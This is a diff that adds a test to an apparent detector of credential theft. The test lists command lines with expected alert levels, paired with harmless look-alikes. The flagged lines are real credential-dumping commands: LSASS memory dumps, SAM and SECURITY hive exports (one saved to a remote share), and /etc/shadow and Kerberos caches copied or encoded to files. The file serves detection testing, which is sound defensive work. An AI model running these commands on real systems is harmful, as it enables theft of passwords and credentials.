@@ -118,3 +118,29 @@ def test_a_store_copied_away(command: str, level: str) -> None:
 ])
 def test_a_store_dumped_or_decrypted(command: str, level: str) -> None:
     assert reaches(command, level) if level else stays_quiet(command), judged(command)
+
+
+@each_form("command,level", [
+    # lsass' memory dumped by any program that names it
+    ("adplus.exe -hang -pn lsass.exe -o C:\\temp", "high"),
+    ("PPLBlade.exe --mode dump --name lsass.exe", "high"),
+    ("ppldump.exe lsass C:\\Windows\\Temp\\l.dmp", "high"),
+    ("createdump.exe -f C:\\temp\\l.dmp $(Get-Process lsass).Id", "high"),
+    # a password hive saved whole by any program
+    ("regedit /e C:\\temp\\sam.reg HKEY_LOCAL_MACHINE\\SAM", "high"),
+    ("python3 reg.py corp/admin@10.0.0.9 save -keyName HKLM\\SECURITY -o \\\\10.0.0.5\\share", "high"),
+    # a store read into a pipe whose end writes a file
+    ("cat /etc/shadow | tee /tmp/x", "high"),
+    ("cat /etc/shadow | base64 > /tmp/s.b64", "high"),
+    ("sudo cat /etc/NetworkManager/system-connections/Home.nmconnection | tee /dev/shm/h", "medium"),
+    ("strings /tmp/krb5cc_0 | gzip > /var/tmp/t.gz", "medium"),
+    # everyday: lsass' file or its listing, other processes' dumps, other keys, counts, the home's own copies
+    ("dumpbin /headers C:\\Windows\\System32\\lsass.exe", None), ('tasklist /fi "imagename eq lsass.exe"', None),
+    ("Get-Process lsass", None), ("procdump -ma notepad.exe", None),
+    ("regedit /e C:\\backup\\soft.reg HKLM\\SOFTWARE", None),
+    ('regedit /e C:\\x.reg "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip"', None),
+    ("grep -v '^#' /etc/shadow | wc -l > count", None), ("cat /etc/passwd | tee /tmp/x", None),
+    ("cat ~/.mozilla/firefox/x/logins.json | jq . > ~/logins-pretty.json", None),
+])
+def test_memory_hives_and_pipes(command: str, level: str) -> None:
+    assert reaches(command, level) if level else stays_quiet(command), judged(command)
